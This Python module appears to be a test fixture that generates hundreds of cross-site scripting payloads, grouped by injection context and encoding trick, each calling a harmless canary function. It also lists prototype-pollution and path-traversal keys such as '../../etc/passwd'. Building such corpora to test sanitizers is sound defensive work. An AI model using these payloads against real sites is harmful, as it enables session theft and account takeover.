r"""Payloads of the known classes of cross-site scripting, each of which calls the same canary.

A template is plain text but for ``§``, the call ``__pwned(17)`` with the payload's own number,
``¤``, that number, and ``⟦how:text⟧``, text encoded (``_ENCODERS``). A class says in ``context``
where its payloads run when nothing escapes them: ``{}`` stands for the payload.
"""

from __future__ import annotations

import base64
import re
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple
from urllib.parse import quote

CANARY = "__pwned"


class Payload(NamedTuple):
    """A text that calls the canary with its number where it runs."""

    number: int
    kind: str
    text: str
    context: str


class Kind(NamedTuple):
    """A class of payloads, and where they run when nothing escapes them."""

    name: str
    context: str
    templates: tuple[str, ...]


def _entities(text: str) -> str:
    return "".join(f"&#{ord(character)};" for character in text)


def _deflated(text: str) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(text.encode()) + packer.flush()


_ENCODERS: dict[str, Callable[[str], str]] = {
    "dec": _entities,
    "hex": lambda text: "".join(f"&#x{ord(character):X};" for character in text),
    "bare": lambda text: "".join(f"&#{ord(character):07d}" for character in text),
    "twice": lambda text: _entities(text).replace("&", "&amp;"),
    "thrice": lambda text: _entities(text).replace("&", "&amp;amp;"),
    "js": lambda text: "".join(f"\\u{ord(character):04x}" for character in text),
    "x": lambda text: "".join(f"\\x{ord(character):02x}" for character in text),
    "pct": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "pct2": lambda text: quote(quote(text, safe=""), safe=""),
    "css": lambda text: "".join(f"\\{ord(character):06x}" for character in text),
    "b64": lambda text: base64.b64encode(text.encode()).decode(),
    "gz": lambda text: base64.b64encode(zlib.compress(text.encode(), wbits=31)).decode(),
    "zlib": lambda text: base64.b64encode(zlib.compress(text.encode())).decode(),
    "raw": lambda text: base64.b64encode(_deflated(text)).decode(),
    "wide": lambda text: "".join(chr(ord(character) + 0xFEE0) for character in text),
    "utf7": lambda text: f"+{base64.b64encode(text.encode('utf-16-be')).decode().rstrip('=')}-",
}

_DECODING = """<p id=a>{}</p><script>
for (let n = 0; n < 4 && !a.firstElementChild; n++) a.innerHTML = a.textContent;
</script>"""
"""A page that takes its text for markup, again and again."""

_KINDS = (
    Kind("element", "{}", (
        "<script>§</script>", "<SCRIPT>§</SCRIPT>", "<ScRiPt >§</sCrIpT >",
        "<script\n>§</script\n>", "<script/x>§</script/x>", "<script type=module>§</script>",
        "<script\f>§</script>", "<script>§//", "<script a='>'>§</script>",
        "<script>/*<b>*/§</script>", "<script src=data:,§></script>",
        "<script src='data:text/javascript,§'></script>", "<script>eval('§')</script>",
        "<script>window['__pw'+'ned'](¤)</script>", "<script>__pwned`¤`</script>",
        "<script>onerror=__pwned;throw ¤</script>", "<script>⟦js:__pwned⟧(¤)</script>",
        "<script>window['⟦x:__pwned⟧'](¤)</script>", "<script>Function('⟦x:§⟧')()</script>",
        "<script>setTimeout('§')</script>", "<script>[¤].map(__pwned)</script>",
        "<script><!--\n§\n--></script>", "<script>import('data:text/javascript,§')</script>",
        "<script>eval(atob('⟦b64:§⟧'))</script>", "<<script>§//<</script>",
        "<scr<script>ipt>§</script>", "<x><script>§</script></x>",
        "<p><table><td><script>§</script>", "</p></div></main><script>§</script>",
        "<script>location='javascript:§'</script>",
    )),
    Kind("event handler", "{}", (
        "<img src=x onerror=§>", "<img src onerror=§>", "<img/src/onerror=§>",
        "<IMG SRC=x OnErRoR=§>", "<img src=x\tonerror\t=\t§>", "<img src=x\nonerror\n=\n§>",
        "<img src=x\ronerror=§>", "<img src=x\x0conerror=§>", '<img src="x" onerror="§">',
        "<img src='x' onerror='§'>", '<img """><img src=x onerror=§>',
        "<img src=x onerror=⟦dec:§⟧>", "<img src=x onerror=⟦hex:§⟧>",
        "<img src=x onerror=⟦bare:§⟧>", "<img src=x onerror=⟦js:__pwned⟧(¤)>",
        "<img src=x onerror='eval(atob(`⟦b64:§⟧`))'>", "<img src=x onerror=__pwned`¤`>",
        "<img src=x onerror=§ //", "<img src=data:, onerror=§>", "<img srcset=x onerror=§>",
        "<image src=x onerror=§>", "<img src=x: alt=a onerror=§ b=", "<input autofocus onfocus=§>",
        "<textarea autofocus onfocus=§></textarea>", "<select autofocus onfocus=§></select>",
        "<button autofocus onfocus=§>x</button>", "<a href=# autofocus onfocus=§>x</a>",
        "<b contenteditable autofocus onfocus=§>x</b>", "<details open ontoggle=§>x</details>",
        "<video src=x onerror=§></video>", "<video><source src=x onerror=§></video>",
        "<audio src=x onerror=§></audio>", "<object data=x onerror=§></object>", "<body onload=§>",
        "<body onpageshow=§>", "<iframe onload=§></iframe>",
        "<iframe src=about:blank onload=§></iframe>", "<link rel=stylesheet href=x onerror=§>",
        "<style onload=§>a{}</style>", "<script src=x: onerror=§></script>",
        "<div onclick=§>click</div>", "<p onmouseover=§>hover</p>", "<i onpointerenter=§>hover</i>",
        "<button onclick=§ popovertarget=x>x</button>", "<div tabindex=0 onfocusin=§>focus</div>",
        "<marquee onstart=§>x</marquee>", "<input type=image src=x onerror=§>",
        "<p style='animation:a 1ms' onanimationend=§>x</p><style>@keyframes a{}</style>",
        "<dialog open onclick=§>x</dialog>", "<embed src=x onerror=§>", "<track onerror=§>",
        "<form oninput=§><input value=x></form>", "<search onclick=§>x</search>",
        "<unknown-tag onclick=§>x</unknown-tag>", "<xss id=x tabindex=1 onfocus=§>x</xss>",
        "<input type=search onsearch=§ onfocus=§>", "<b onbeforematch=§ onclick=§>x</b>",
    )),
    Kind("attribute, double quotes", '<b title="{}">x</b>', (
        '"><script>§</script>', '"><img src=x onerror=§>', '" onmouseover="§', '"onclick="§',
        '" autofocus tabindex=0 onfocus="§', '"/onclick=§ x="', '"\nonclick=§\nx="',
        '"\tonclick=§\tx="', '" style="animation:a" onclick="§', '"><svg onload=§>',
        "\"><svg/onload='§'>", '"-->"><img src=x onerror=§>', '" onclick=§ "',
        '\\"><img src=x onerror=§>', '"></b></p></section><img src=x onerror=§>',
        '"a="b"onclick="⟦dec:§⟧',
    )),
    Kind("attribute, single quotes", "<b title='{}'>x</b>", (
        "'><script>§</script>", "'><img src=x onerror=§>", "' onclick='§", "'onclick='§",
        "' autofocus tabindex=0 onfocus='§", "'/onclick=§ x='", "'\nonclick=§\nx='",
        "'><svg onload=§>", "\\'><img src=x onerror=§>", "' onclick='⟦hex:§⟧",
    )),
    Kind("attribute, no quotes", "<b title={}>x</b>", (
        "x onclick=§", "x\tonclick=§", "x\nonclick=§", "x\x0conclick=§", "x><img src=x onerror=§>",
        "><svg onload=§>", "x tabindex=0 autofocus onfocus=§", "`onclick=` onclick=§",
        "/ onclick=§",
    )),
    Kind("within a handler", "<b onclick=\"String('{}')\">x</b>", (
        "'+§+'", "');§//", "⟦dec:'⟧+§+⟦dec:'⟧", "&apos;+§+&apos;", "\\');§//", "'-§-'", "'\n);§//",
        "&#39;+§+&#39;", "&#x27;&#43;§&#43;&#x27;",
    )),
    Kind("SVG and MathML", "{}", (
        "<svg onload=§>", "<svg/onload=§>", "<svg><script>§</script></svg>",
        "<svg><script>⟦dec:§⟧</script></svg>", "<svg><script>&#x5f;_pwned(¤)</script>",
        "<svg><script href=data:,§></script></svg>",
        "<svg><script xlink:href=data:,§></script></svg>",
        "<svg><a href=javascript:§><text y=9>x</text></a></svg>",
        "<svg><a xlink:href=javascript:§><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=§ attributeName=x dur=1s></svg>",
        "<svg><set onbegin=§ attributeName=x to=y></svg>",
        "<svg><a><animate attributeName=href values=javascript:§ /><text y=9>x</text></a></svg>",
        "<svg><image href=x onerror=§></svg>", "<svg><image xlink:href=x: onerror=§></svg>",
        "<svg><style><img src=x onerror=§></style></svg>",
        "<svg><title><img src=x onerror=§></title></svg>",
        "<svg><desc><script>§</script></desc></svg>",
        "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
        "<svg><foreignObject><iframe onload=§></iframe></foreignObject></svg>",
        "<svg><circle r=9 onclick=§ /></svg>",
        "<svg><g onmouseover=§><rect width=9 height=9 /></g></svg>",
        "<svg><![CDATA[><img src=x onerror=§>]]></svg>", "<svg><p><img src=x onerror=§></svg>",
        "<svg></p><img src=x onerror=§>", "<svg><use href='#x' onclick=§ /></svg>",
        "<svg><animateTransform attributeName=transform onbegin=§></svg>",
        "<math><mtext><img src=x onerror=§></mtext></math>", "<math><mi onclick=§>x</mi></math>",
        "<math href=javascript:§>x</math><b onclick=§>x</b>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=§></annotation-xml></math>",
        "<math><mi/><svg onload=§>", "<math><mtext><svg><script>§</script></svg></mtext></math>",
    )),
    Kind("mutation", "{}", (
        "<noscript><p title='</noscript><img src=x onerror=§>'></noscript>",
        "<template><img src=x></template><img src=x onerror=§>",
        "<style><style/><img src=x onerror=§></style></style><img src=x onerror=§>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;i"
        "mg src=1 onerror=§&gt;'><img src=x onerror=§>",
        "<svg></p><style><a id='</style><img src=x onerror=§>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
        "<select><style></select><img src=x onerror=§></style>",
        "<xmp><p title='</xmp><img src=x onerror=§>'>",
        "<listing>&lt;x</listing><img src=x onerror=§>",
        "<noembed><p title='</noembed><img src=x onerror=§>'>",
        "<iframe><p title='</iframe><img src=x onerror=§>'>",
        "<table><tr><a><svg onload=§></a></tr></table>", "<p id='a`b'><img src=x onerror=§>",
        "<a><b></a><img src=x onerror=§></b>", "</plaintext><b onclick=§>x<img src=x onerror=§>",
        "<title><a title='</title><img src=x onerror=§>'></title>",
        "<textarea><p title='</textarea><img src=x onerror=§>'>",
        "<svg><style>&lt;img src=x onerror=§&gt;</style></svg><b onclick=§>x</b>",
        "<math><style><a title='</style><img src=x onerror=§>'></math>",
    )),
    Kind("URL", '<a href="{}">x</a>', (
        "javascript:§", "JAVASCRIPT:§", "JaVaScRiPt:§", " javascript:§", "\tjavascript:§",
        "java\tscript:§", "java\nscript:§", "java\rscript:§", "javascript\t:§", "\x01javascript:§",
        "\x1fjavascript:§", "\x08javascript:§", "javascript://x%0A§", "javascript://x%0D§",
        "javascript:%5F%5Fpwned(¤)", "javascript:⟦pct:§⟧", "javascript:/**/§", "javascript:void(§)",
        "javascript:'<img src=x>';§", "⟦dec:javascript:⟧§", "⟦hex:javascript:⟧§",
        "java&Tab;script:§", "java&NewLine;script:§", "javascript&colon;§", "javascript&#58;§",
        "&#1;javascript:§", "javascript:eval(atob('⟦b64:§⟧'))", "javascript:\u2028§",
        "javascript:/*x*/§//",
    )),
    Kind("document URL", "<iframe src=\"{}\"></iframe>", (
        "data:text/html,<script>§</script>", "data:text/html;base64,⟦b64:<script>§</script>⟧",
        "data:text/html;charset=utf-8,⟦pct:<script>§</script>⟧",
        "DATA:TEXT/HTML,<img src=x onerror=§>",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>",
        "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>§</script></x>",
        "data:,x' onload='§' x='", "javascript:parent.§", "data:text/html;,<body onload=§>",
        "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'>"
        "<script>§</script></html>",
    )),
    Kind("embedding", "{}", (
        "<iframe src=javascript:§></iframe>", "<iframe srcdoc='<script>§</script>'></iframe>",
        "<iframe srcdoc='⟦dec:<script>§</script>⟧'></iframe>",
        "<iframe srcdoc=⟦hex:<svg onload=§>⟧></iframe>", "<object data=javascript:§></object>",
        "<embed src=javascript:§>", "<object data='data:text/html,<script>§</script>'></object>",
        "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"§\"/>'>",
        "<form action=javascript:§><button>x</button></form>",
        "<form id=f></form><button form=f formaction=javascript:§>x</button>",
        "<form><input type=submit formaction=javascript:§ value=x></form>",
        "<form><input type=image src=x formaction=javascript:§ onerror=§></form>",
        "<a href=javascript:§>x</a>", "<a href='javascript:§' target=_self>x</a>",
        "<map name=m><area href=javascript:§ shape=default></map><img usemap=#m src=x onerror=§>",
        "<base href=javascript:/x/><a href=#>x</a><img src=x onerror=§>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>§</script>'><svg onload=§>",
        "<portal src=javascript:§></portal><svg onload=§>",
        "<fieldset><legend><svg onload=§></legend></fieldset>",
        "<link rel=import href=data:text/html,x><svg onload=§>",
        "<div><template shadowrootmode=open><img src=x onerror=§></template></div>",
    )),
    Kind("style element", "<style>a{color:{}}</style>", (
        "red}</style><img src=x onerror=§>", "</style><script>§</script>",
        "</STYLE ><svg onload=§>", "</style/x><img src=x onerror=§>", "/*</style><svg onload=§>*/",
        "url(</style><svg onload=§>)",
    )),
    Kind("style attribute", '<b style="{}">x</b>', (
        'color:red" onclick="§', "x:expression(§)\" onclick=\"§", 'background:url("x" onclick="§',
        "behavior:url(#default)\" onmouseover=\"§", '⟦css:x⟧:y" onclick="§',
        "-moz-binding:url(x)\"onclick=\"§",
    )),
    Kind("comment", "<!-- {} -->", (
        "--><script>§</script>", "--!><img src=x onerror=§>", "-->\n<svg onload=§>",
        "--><!--><svg onload=§>", "<!--><img src=x onerror=§>--><img src=x onerror=§>",
        "--><svg onload=§><!--",
    )),
    Kind("comment's beginning", "<!--{}-->", (
        "><img src=x onerror=§>", "-><img src=x onerror=§>",
    )),
    Kind("CDATA and declarations", "{}", (
        "<![CDATA[<script>§</script>]]>", "]]><script>§</script>", "<!DOCTYPE x><svg onload=§>",
        "<?xml version='1.0'?><svg onload=§>", "<?php echo 1 ?><img src=x onerror=§>",
        "<!x><svg onload=§>", "<!ENTITY x '§'><img src=x onerror=§>", "</><svg onload=§>",
        "<!--[if IE]><![endif]--><svg onload=§>",
    )),
    Kind("script's text", "<script>var a = '{}';</script>", (
        "';§//", "'+§+'", "</script><script>§</script>", "</SCRIPT ><img src=x onerror=§>",
        "</script/x><svg onload=§>", "</script\t><svg onload=§>", "\\';§//", "'-§-'", "';§;//",
    )),
    Kind("data block", '<script type="application/json">"{}"</script>', (
        "</script><script>§</script>", "</script><img src=x onerror=§>",
        "</ScRiPt\n><svg onload=§>", "<!--</script><svg onload=§>",
        "<!--<script></script></script><svg onload=§>", "\\u003c/script></script><svg onload=§>",
        '"}]</script><svg onload=§>', "\u2028</script><svg onload=§>",
        "</script \x0c><svg onload=§>",
    )),
    Kind("text-only element", "<title>{}</title>", (
        "</title><script>§</script>", "</TITLE/><svg onload=§>", "</title\n><img src=x onerror=§>",
    )),
    Kind("text area", "<textarea>{}</textarea>", (
        "</textarea><script>§</script>", "</textarea\t><img src=x onerror=§>",
        "</TEXTAREA><svg onload=§>",
    )),
    Kind("unseen without scripts", "<noscript>{}</noscript>", (
        "</noscript><script>§</script>", "</NOSCRIPT/><svg onload=§>",
    )),
    Kind("Jinja", "{}", (
        "{{ 7*7 }}<img src=x onerror=§>", "{{ '<img src=x onerror=§>'|safe }}",
        "{% autoescape false %}<svg onload=§>{% endautoescape %}",
        "{{ ''.__class__.__mro__ }}<svg onload=§>", "{# #}<svg onload=§>",
        "{{ self }}<b onclick=§>x</b>", "{% raw %}<svg onload=§>{% endraw %}",
        "{% include 'report.js' %}<svg onload=§>", "${§}<svg onload=§>", "<%= 7 %><svg onload=§>",
    )),
    Kind("Angular and Vue", "{}", (
        "{{constructor.constructor('§')()}}<svg onload=§>",
        "{{$on.constructor('§')()}}<svg onload=§>",
        "<b ng-app ng-csp ng-click=$event.view.§ onclick=§>x</b>",
        "<b v-html=\"'x'\" @click=§ onclick=§>x</b>", "{{_c.constructor('§')()}}<svg onload=§>",
        "<b :onclick=§ onclick=§>x</b>",
        "<p ng-init=\"constructor.constructor('§')()\" onclick=§>x</p>", "[[§]]<svg onload=§>",
        "<b x-init=§ onclick=§>x</b>", "#{§}<svg onload=§>",
    )),
    Kind("broken by characters", "{}", (
        "<script\x00>§</script><svg onload=§>", "<img\x00 src=x onerror=§><svg onload=§>",
        "\x00<svg onload=§>", "<svg\x00onload=§><svg onload=§>", "\ufeff<svg onload=§>",
        "\u200b<svg onload=§>", "\u202e<svg onload=§>", "\u2066<svg onload=§>\u2069",
        "\u2028<svg onload=§>\u2029", "\x85<svg onload=§>", "\x1b[31m<svg onload=§>",
        "\x7f<svg onload=§>", "\ud800<svg onload=§>", "\udfff\ud800<svg onload=§>",
        "\ufffe<svg onload=§>", "\U0001fffe<svg onload=§>", "\u0338<svg onload=§>",
        "<\u200dsvg><svg onload=§>", "\u00a0<svg\u00a0onload=§><svg onload=§>",
        "\u3000<svg onload=§>", "\u061c<svg\u200eonload=x><svg onload=§>",
        "a\u0300\u0301\u0302<svg onload=§>", "\U000e0041<svg onload=§>", "\v<svg onload=§>",
    )),
    Kind("look-alike brackets", "{}", (
        "⟦wide:<script>§</script>⟧", "\u2039script\u203a§\u2039/script\u203a",
        "\ufe64svg onload=§\ufe65", "\u3008svg onload=§\u3009", "\u276eimg src=x onerror=§\u276f",
        "\u02c2script\u02c3§\u02c2/script\u02c3", "\u27e8svg onload=§\u27e9",
        "\xc0\xbcscript\xc0\xbe§\xc0\xbc/script\xc0\xbe", "\xe0\x80\xbcsvg onload=§\xe0\x80\xbe",
        "⟦utf7:<script>§</script>⟧", "\uff02 onclick=\uff02§", "%c0%bcscript%c0%be§",
        "\u02bc onclick=\u02bc§", "\u013cscript\u013e§\u013c/script\u013e",
    )),
    Kind("encoded twice", _DECODING, (
        "&lt;script&gt;§&lt;/script&gt;", "&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;",
        "⟦dec:<svg onload=§>⟧", "⟦hex:<svg onload=§>⟧", "⟦bare:<svg onload=§>⟧",
        "⟦twice:<svg onload=§>⟧", "⟦thrice:<svg onload=§>⟧", "⟦pct:<svg onload=§>⟧",
        "⟦pct2:<svg onload=§>⟧", "&LT;svg onload=§&GT;", "&lt;img src=x onerror=§>",
        "&ltsvg onload=§&gt", "\\u003csvg onload=§\\u003e", "\\x3csvg onload=§\\x3e",
        "\\74svg onload=§\\76", "&quot;&gt;&lt;svg onload=§&gt;", "&#00000060;svg onload=§>",
        "=3Csvg onload=3D§=3E",
    )),
    Kind("Markdown", "{}", (
        "[x](javascript:§)", "[x](<javascript:§>)", "![x](x\"onerror=\"§)",
        "[x](x \"\\\" onclick=§ \\\"\")", "<javascript:§>", "[x]: javascript:§\n\n[x]",
        "`</code><svg onload=§>`", "```\n</pre><svg onload=§>\n```",
        "~~~html\n</pre><svg onload=§>\n~~~", "| <svg onload=§> |\n| --- |", "> <svg onload=§>",
        "# <svg onload=§>", "\n\n<div>\n<svg onload=§>\n</div>\n\n",
        "\\<svg onload=§\\>\\\\<svg onload=§>", "    <svg onload=§>\n<svg onload=§>",
        "[x](data:text/html;base64,⟦b64:<script>§</script>⟧)", "[a](javascript&colon;§)",
        "[a](java%0Ascript:§)", "<!-- x --><svg onload=§>", "*<svg onload=§>*",
        "[^1]: <svg onload=§>\n\n[^1]", "<https://x\"onclick=\"§>", "$`<svg onload=§>`$",
        "- [ ] <svg onload=§>", "```math\n\\href{javascript:§}{x}\n```",
        "</details></sub></td></table><svg onload=§>", "```mermaid\nclick A call §\n```",
    )),
    Kind("workflow command", "{}", (
        "::error::<svg onload=§>", "\n::set-output name=verdict::pass<svg onload=§>",
        "\r::add-mask::<svg onload=§>", "\n##[error]<svg onload=§>", "%0A::warning::<svg onload=§>",
        "\n::stop-commands::x\n<svg onload=§>", "title=x,file=y::<svg onload=§>",
        "\nverdict<<end\npass\nend\n<svg onload=§>",
    )),
    Kind("packed", "{}", (
        "⟦b64:<script>§</script>⟧", "⟦gz:<script>§</script>⟧", "⟦zlib:<svg onload=§>⟧",
        "⟦raw:<svg onload=§>⟧", "H4sIAAAA</script><svg onload=§>", "eJw=</script><svg onload=§>",
        "UEsDBA==\"><svg onload=§>", "data:application/gzip;base64,⟦gz:<svg onload=§>⟧",
    )),
    Kind("polyglot", "{}", (
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload="
        '\'+/"/+/onmouseover=1/+/[*/[]/+§//\'>',
        "'\"--></style></script></textarea></title><svg onload=§>",
        "\";§;//'><img src=x onerror=§>", "*/§/*`;§;`<svg onload=§>",
        "{{7*7}}]]>-->'\"><svg onload=§>", "\r\n\r\n<svg onload=§>", "x'||§||'\"><svg onload=§>",
        'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */§)//</stYle/</titLe/</teXtarEa/</'
        "scRipt/--!><sVg/oNloAd=§//>",
    )),
)  # fmt: skip

NAMES = (
    "__proto__", "constructor", "toString", "hasOwnProperty", "length", "f-text", "filter", "data",
    "groups", "body", "location", "forms", "$&", "$1", "../../etc/passwd", "con", "#", "?x=1#y",
    "%", "%00", "%ZZ", "null", "undefined", "NaN", "-0", "1e999",
)  # fmt: skip
"""Texts that mislead a script that takes them for a key, an id, a pattern or an address."""

_ENCODED = re.compile(r"⟦(\w+):(.*?)⟧", re.DOTALL)


def written(template: str, number: int) -> str:
    """Return the payload of a template."""
    plain = template.replace("§", f"{CANARY}({number})").replace("¤", str(number))
    return _ENCODED.sub(lambda found: _ENCODERS[found[1]](found[2]), plain)


def _payloads() -> Iterator[Payload]:
    numbered = enumerate((kind, text) for kind in _KINDS for text in kind.templates)
    for number, (kind, template) in numbered:
        yield Payload(number, kind.name, written(template, number), kind.context)


PAYLOADS = (*_payloads(),)
